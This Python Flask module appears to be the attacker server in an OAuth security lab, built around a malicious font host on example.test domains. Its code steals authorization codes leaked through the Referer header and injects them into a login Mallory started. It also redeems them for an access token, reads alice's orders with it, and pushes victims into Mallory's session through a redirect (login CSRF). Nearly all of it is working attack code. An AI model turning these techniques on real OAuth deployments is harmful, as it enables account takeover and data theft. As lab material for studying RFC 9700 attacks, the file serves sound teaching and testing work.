"""fonts.example.test: lends other people's pages its letters, and reads what browsers tell it on the way. The attacker.

It uses what reaches this very server, and nothing else: no key log, no token, no code of the other nodes.
"""

from html.parser import HTMLParser
from urllib.parse import parse_qs, urlencode, urlsplit

import requests
from flask import Flask, Response, redirect, request
from lab import ISSUER, bare, serve

fonts = Flask("fonts")
fonts.after_request(bare)
HERE = "https://spa.example.test/callback"
ALONE = {"Connection": "close"}
STYLE = "body { font-family: serif }\n", {"Content-Type": "text/css"}


@fonts.get("/letters.css")
def letters() -> tuple[str, dict[str, str]]:
    """The page that asks tells its address, code included (RFC 9700 §4.2). Its script waits until it has the style."""
    page = urlsplit(request.headers.get("Referer", ""))
    code = parse_qs(page.query).get("code")
    if code:
        (inject if page.hostname == "app.example.test" else redeem)(code[0])
    return STYLE


def inject(code: str) -> None:
    """The code to the only one who can redeem it, as the end of a login that Mallory has begun: RFC 9700 §4.5."""
    with requests.Session() as mine:
        mine.headers["User-Agent"] = "a browser of Mallory's"
        away = mine.get("https://app.example.test/login", allow_redirects=False, timeout=10)
        state = parse_qs(urlsplit(away.headers["Location"]).query)["state"][0]
        answer = urlencode({"code": code, "state": state})
        told = mine.get(f"https://app.example.test/finish?{answer}", timeout=10)
    print(f"injected code: {told.status_code} {told.text}", flush=True)


def redeem(code: str) -> None:
    """The code as its owner would redeem it; what comes of it is used at once."""
    form = {"grant_type": "authorization_code", "client_id": "spa", "redirect_uri": HERE, "code": code}
    told = requests.post(f"{ISSUER}/token", data=form, headers=ALONE, timeout=10)
    print(f"stolen code: {told.status_code} {told.text}", flush=True)
    if told.ok:
        header = {"Authorization": f"Bearer {told.json()['access_token']}", **ALONE}
        seen = requests.get("https://api.example.test/orders", headers=header, timeout=10)
        print(f"with alice's token: {seen.status_code} {seen.text}", flush=True)


class Form(HTMLParser):
    """Where a page's form goes, and what is ticked in it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.action = ""
        self.ticked: list[tuple[str, str]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """HTMLParser calls this for each tag."""
        said = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.action = said["action"]
        elif said.get("type") == "checkbox":
            self.ticked.append((said["name"], said["value"]))


@fonts.get("/kittens")
def kittens() -> Response:
    """Whoever comes here is sent on to the application, with a code that Mallory has just got for herself."""
    return redirect(own_code())


def own_code() -> str:
    """Mallory logs in to the application under her own name, and stops before the last redirect."""
    with requests.Session() as mine:
        page = mine.get("https://app.example.test/login", timeout=10)
        form = Form(page.text)
        said = [("name", "mallory"), ("password", "malice"), *form.ticked]
        told = mine.post(f"{ISSUER}{form.action}", data=said, allow_redirects=False, timeout=10)
        while not told.headers["Location"].startswith("https://app.example.test/callback"):
            told = mine.get(told.headers["Location"], allow_redirects=False, timeout=10)
        return told.headers["Location"]


if __name__ == "__main__":
    serve({"fonts": fonts})
